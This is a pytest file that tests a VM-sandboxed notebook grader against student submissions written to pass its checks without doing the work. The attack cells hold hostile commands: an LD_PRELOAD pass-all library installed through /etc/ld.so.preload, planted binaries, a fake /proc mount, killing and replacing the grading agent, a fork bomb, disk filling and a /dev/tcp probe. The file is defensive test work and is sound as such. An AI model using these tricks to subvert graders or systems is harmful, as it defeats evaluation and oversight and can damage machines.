"""Reruns on fresh qemu VMs from the attacker's side: the student is root in the
VM while their cells run, and tries to make the checks pass without the work.

One batch of real reruns (``workshop grade --rerun --target qemu:...``), one
fresh VM per submission, each restored from the snapshot whose sealed agent runs
the checks (workshop/vm/agent.py).  Each submission is a student's notebook
with the reference's cell ids; the grader puts the reference's checks, hidden
ones too, back in.  Every attack must either change no verdict or be flagged
``system-tampered`` with the checks that ran on the changed system earning
nothing, and a submission that did the work honestly must keep every point.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from test_grading import make_notebook
from test_vm import _require_tools

from workshop.vm import build_image
from workshop.vm.agent import CELLS_PIDS

pytestmark = pytest.mark.timeout(1800)

SETUP = "%expect stdout /ready/\nmkdir -p /root/work && cd /root/work && echo ready"
CHECKS = """
%%check --name made
[ -f made ] || { echo "FAIL: there is no file made"; exit 1; }
%%check --hidden --name says-yes
grep -qx yes made || { echo "FAIL: made does not say yes"; exit 1; }
%%check --name mounted
grep -q " $PWD/merged " /proc/self/mounts || { echo "FAIL: nothing is mounted on merged"; exit 1; }"""
SOLUTION = "echo yes > made\nmkdir -p merged && mount -t tmpfs none merged"
POINTS = 1 + 3  # the setup's %expect and the work's three checks
# The instructor's locked cell after the work: what it prints comes from the shell
# the student's cells ran in (worth 0 points here, so the totals above stay).
CONFIRM = '%expect stdout /^made: yes$/\necho "made: $(cat made 2>/dev/null)"'
CONFIRMED = "stdout /^made: yes$/"
FAKE_CONFIRM = 'echo "made: yes"'

# Every new program exits 0 at once unless KEEP is set: a check run by any
# dynamically linked program would pass.
PASS_ALL_C = """#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void pass(void) { if (!getenv("KEEP")) _exit(0); }
"""

# A stand-in for the agent: answers every request "exit status 0".
FAKE_AGENT = r"""
for p in /sys/class/virtio-ports/*; do
  [ "$(cat $p/name)" = workshop.setup ] && port=/dev/${p##*/}
done
pkill -9 -f /run/workshop-agent; sleep 1
setsid perl -e '
open(my $p, "+<", $ARGV[0]) or die; binmode $p; my $n = "";
while (my $l = <$p>) { $n = $1 if $l =~ /^n (\S+)/;
  if ($l eq "end\n") { syswrite($p, "n $n\nstatus 30\ntoken " . ("00" x 16) . "\nend\n"); } }' "$port" \
  </dev/null >/dev/null 2>&1 &
sleep 1"""


def _attacks(port: int, preload: str) -> dict[str, str]:
    """The work cell of each submission."""
    return {
        "honest": SOLUTION,
        "lazy": "true",
        # a program planted before /usr/bin on every PATH: the old check shell ran `env -i ...`
        "planted-env": ("printf '#!/bin/sh\\ncat >> /root/leak\\nexit 0\\n' > /usr/local/bin/env\n"
                        "chmod +x /usr/local/bin/env && cp /usr/local/bin/env /usr/local/bin/bash && hash -r"),
        # every new dynamically linked program exits 0
        "preload": (f"echo '{preload}' | base64 -d > /usr/local/lib/pass.so\n"
                    "echo /usr/local/lib/pass.so > /etc/ld.so.preload"),
        # a fake /proc whose mounts list says merged is mounted; the file itself is made honestly
        "fake-proc": ("echo yes > made\nmkdir -p /root/fake/self\n"
                      "grep -v merged /proc/self/mounts > /root/fake/self/mounts\n"
                      "echo \"none $PWD/merged tmpfs rw 0 0\" >> /root/fake/self/mounts\n"
                      "ln -sf self/mounts /root/fake/mounts && mount --bind /root/fake /proc"),
        # $PWD says the student is where merged is mounted; the shell is not there
        "pwd-lie": ("echo yes > made\nmkdir -p /tmp/elsewhere/merged && mount -t tmpfs none /tmp/elsewhere/merged\n"
                    "PWD=/tmp/elsewhere"),
        # what steers a shell or the loader, in the student's own shell; the library is out of the watched places
        "env-poison": (f"echo '{preload}' | base64 -d > /root/pass.so\necho 'exit 0' > /root/e.sh\n"
                       "export LD_PRELOAD=/root/pass.so BASH_ENV=/root/e.sh ENV=/root/e.sh PWD=/tmp IFS=/ HOME=/tmp"),
        # a directory of programs that always pass, mounted over one on every PATH
        "mount-usr": ("mkdir -p /root/bin && printf '#!/bin/sh\nexit 0\n' > /root/bin/grep\n"
                      "chmod +x /root/bin/grep && mount --bind /root/bin /usr/local/bin"),
        # the VM's disk filled at once (no data written)
        "disk-full": ("echo yes > made\nmkdir -p merged && mount -t tmpfs none merged\n"
                      "fallocate -l $(df --output=avail -B1 / | tail -1) /root/fill || fallocate -l 1G /root/fill; df -h /"),
        # processes without end, left running past the cell
        "fork-bomb": "echo yes > made\nsetsid bash -c 'b() { b | b & }; b' >/dev/null 2>&1 < /dev/null &\nsleep 15",
        "agent-killed": "echo yes > made\npkill -9 -f /run/workshop-agent; sleep 1",
        "agent-replaced": "echo yes > made" + FAKE_AGENT,
        # the student's shell bent so that the locked cell after it prints what the work would have
        "debug-trap": f"trap '{FAKE_CONFIRM}' DEBUG",
        "function-shadow": "echo() { builtin printf 'made: yes\\n'; }; cat() { :; }",
        "background-writer": f"( while :; do {FAKE_CONFIRM}; sleep 0.1; done ) &",
        "into-the-relay": "printf 'echo() { builtin printf \"made: yes\\\\n\"; }\\n' > /proc/$PPID/fd/0; sleep 2",
        # the work, plus a try to reach a listener on the grader's own loopback
        "network": (SOLUTION + f"\nif timeout 10 bash -c 'echo probe > /dev/tcp/10.0.2.2/{port}' 2>/dev/null; "
                    "then echo \"verdict: $((6 * 7))-reached\"; else echo \"verdict: $((6 * 7))-blocked\"; fi"),
    }


class Listener:
    """A TCP listener on the host's loopback that counts who reached it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.reached: list[str] = []
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.done.is_set():
            try:
                conn, peer = self.sock.accept()
            except OSError:
                continue
            self.reached.append(str(peer))
            conn.close()

    def close(self):
        self.done.set()
        self.thread.join()
        self.sock.close()


def _pass_all_library(tmp_path: Path) -> str:
    gcc = shutil.which("gcc") or shutil.which("cc")
    if gcc is None:
        pytest.fail("the preload attack needs a C compiler on this machine: apt-get install gcc")
    source = tmp_path / "pass.c"
    source.write_text(PASS_ALL_C)
    lib = tmp_path / "pass.so"
    subprocess.run([gcc, "-shared", "-fPIC", "-O2", "-o", str(lib), str(source)], check=True)
    return base64.b64encode(lib.read_bytes()).decode()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Every attack graded in one rerun batch; the results, executed notebooks and the listener."""
    _require_tools()
    build_image()  # once, before the clock of the batch starts
    tmp = tmp_path_factory.mktemp("sealed")
    ref = make_notebook(tmp / "reference.ipynb", {"setup": SETUP, "work": SOLUTION + CHECKS, "confirm": CONFIRM},
                        setup={"workshop": {"locked": True}}, confirm={"workshop": {"locked": True, "points": 0}})
    listener = Listener()
    subs = tmp / "subs"
    subs.mkdir()
    attacks = _attacks(listener.port, _pass_all_library(tmp))
    for student, work in attacks.items():
        make_notebook(subs / f"{student}.ipynb", {"setup": SETUP, "work": work, "confirm": CONFIRM,
                                                  "after": "cat /root/leak 2>/dev/null; true"})
    report, out = tmp / "grades.json", tmp / "out"
    try:
        done = subprocess.run(
            [sys.executable, "-m", "workshop", "grade", str(ref), *sorted(map(str, subs.glob("*.ipynb"))), "--rerun",
             "--target", "qemu:wsseal", "--jobs", "2", "--timeout", "30", "--submission-timeout", "300",
             "--json", str(report), "--out", str(out), "--quiet"],
            capture_output=True, text=True, timeout=1500, env=dict(os.environ, COLUMNS="200"))
    finally:
        listener.close()
    assert report.exists(), done.stdout + done.stderr
    results = {r["student"]: r for r in json.loads(report.read_text())["submissions"]}
    executed = "\n".join(_streams(json.loads(p.read_text())) for p in (out / "executed").glob("*.ipynb"))
    return results, executed, listener, done.stderr


def _streams(nb: dict) -> str:
    """What the cells printed (not their sources, which hold the reference's checks)."""
    return "".join("".join(out.get("text", "")) for cell in nb["cells"] for out in cell.get("outputs", [])
                   if out.get("output_type") == "stream")


def _passed(result: dict) -> set[str]:
    return {key.partition(":")[2] for key, entry in result["checks"].items() if entry["passed"]}


def _tamper_messages(result: dict) -> str:
    return " | ".join(f["message"] for f in result["flags"] if f["kind"] == "system-tampered")


def test_the_honest_submission_keeps_every_point_and_no_flag(graded):
    results, *_ = graded
    honest = results["honest"]
    assert honest["total"] == honest["max"] == POINTS, honest
    assert honest["flags"] == [], honest["flags"]


def test_a_later_locked_cell_prints_what_the_work_left_not_what_the_student_arranged(graded):
    """The student's cells run in a subshell that hands on only data, the shell reads
    only what the kernel signed, and what a student's process left running writes is
    not a later cell's output."""
    results, *_ = graded
    assert CONFIRMED in _passed(results["honest"])
    for attack in ("lazy", "debug-trap", "function-shadow", "background-writer", "into-the-relay"):
        assert CONFIRMED not in _passed(results[attack]), (attack, results[attack]["checks"])
        assert results[attack]["total"] == 1, (attack, results[attack]["checks"])
    relay = {f["kind"]: f["message"] for f in results["into-the-relay"]["flags"]}
    assert "something else than the kernel wrote" in relay.get("framing-forged", ""), relay


def test_doing_nothing_earns_only_the_setup(graded):
    results, *_ = graded
    assert results["lazy"]["total"] == 1 and not _tamper_messages(results["lazy"])


def test_a_planted_env_and_bash_change_no_verdict_and_are_flagged(graded):
    results, executed, *_ = graded
    planted = results["planted-env"]
    assert planted["total"] == 1, planted["checks"]
    assert "/usr/local/bin/env" in _tamper_messages(planted)
    # the planted programs never saw a check: no check source leaked into what the cells printed
    assert "made does not say yes" not in executed and "there is no file made" not in executed
    assert "verdict: 42" in executed  # (the streams are there to look in)


def test_ld_so_preload_is_flagged_and_its_checks_earn_nothing(graded):
    results, *_ = graded
    preload = results["preload"]
    assert "/etc/ld.so.preload" in _tamper_messages(preload), preload["flags"]
    assert preload["total"] <= 1, preload["checks"]


def test_a_fake_proc_mounted_over_proc_is_seen_through_and_flagged(graded):
    results, *_ = graded
    fake = results["fake-proc"]
    assert "over /proc" in _tamper_messages(fake), fake["flags"]
    assert "mounted" not in _passed(fake) and fake["total"] <= 1


def test_a_lying_pwd_does_not_move_the_check(graded):
    results, *_ = graded
    liar = results["pwd-lie"]
    assert {"made", "says-yes"} <= _passed(liar) and "mounted" not in _passed(liar), liar["checks"]
    assert not _tamper_messages(liar)


def test_a_killed_agent_is_flagged_and_the_checks_earn_nothing(graded):
    results, *_ = graded
    killed = results["agent-killed"]
    assert "agent" in _tamper_messages(killed) and killed["total"] <= 1, (killed["flags"], killed["checks"])


def test_an_agent_replaced_by_a_stand_in_is_flagged(graded):
    results, *_ = graded
    replaced = results["agent-replaced"]
    assert "replaced" in _tamper_messages(replaced) and replaced["total"] <= 1, replaced["flags"]


def test_a_rerun_vm_cannot_reach_the_graders_loopback(graded):
    results, executed, listener, _ = graded
    assert listener.reached == []
    assert "verdict: 42-blocked" in executed and "42-reached" not in executed
    assert results["network"]["total"] == POINTS  # the work still counts


def test_a_grader_without_kvm_is_told_why_not_once_per_vm(graded):
    from workshop.vm.machine import kvm_usable

    results, *_, stderr = graded
    said = [line for line in stderr.splitlines() if "KVM" in line]
    if kvm_usable()[0] and not said:
        return  # KVM worked all along: nothing to say
    assert said and any("no KVM (" in line or "KVM failed (" in line for line in said), stderr
    assert len(said) < len(results), said  # said once (or as it changed), not for every fresh VM


def test_poisoned_variables_in_the_shell_reach_no_check(graded):
    results, *_ = graded
    poisoned = results["env-poison"]
    assert poisoned["total"] == 1 and not _tamper_messages(poisoned), poisoned["checks"]


def test_a_mount_over_a_directory_of_programs_is_flagged(graded):
    results, *_ = graded
    mounted = results["mount-usr"]
    assert "over /usr/local/bin" in _tamper_messages(mounted) and mounted["total"] <= 1, mounted["flags"]


def test_a_full_disk_is_the_students_doing(graded):
    results, *_ = graded
    full = results["disk-full"]
    limits = " ".join(f["message"] for f in full["flags"] if f["kind"] == "resource-limit")
    assert "disk was full" in limits, full["flags"]
    assert "rerun-error" not in {f["kind"] for f in full["flags"]}


def test_a_fork_bomb_is_the_students_doing(graded):
    results, *_ = graded
    bomb = results["fork-bomb"]
    kinds = {f["kind"] for f in bomb["flags"]}
    assert kinds & {"resource-limit", "timed-out"}, bomb["flags"]
    # not the machinery's failure, not a change to the system, not a broken driver: a limit it reached
    assert not kinds & {"rerun-error", "system-tampered", "framing-forged"}, bomb["flags"]
    assert bomb["total"] < POINTS
    # stopped by the limit of the cgroup its shell joined, which the rerun names (or, on a host
    # too busy for the guest to answer at all, the silence of a VM its processes took)
    limits = " ".join(f["message"] for f in bomb["flags"] if f["kind"] == "resource-limit")
    assert f"limit of {CELLS_PIDS} at once" in limits or "its processes took all of it" in limits, bomb["flags"]
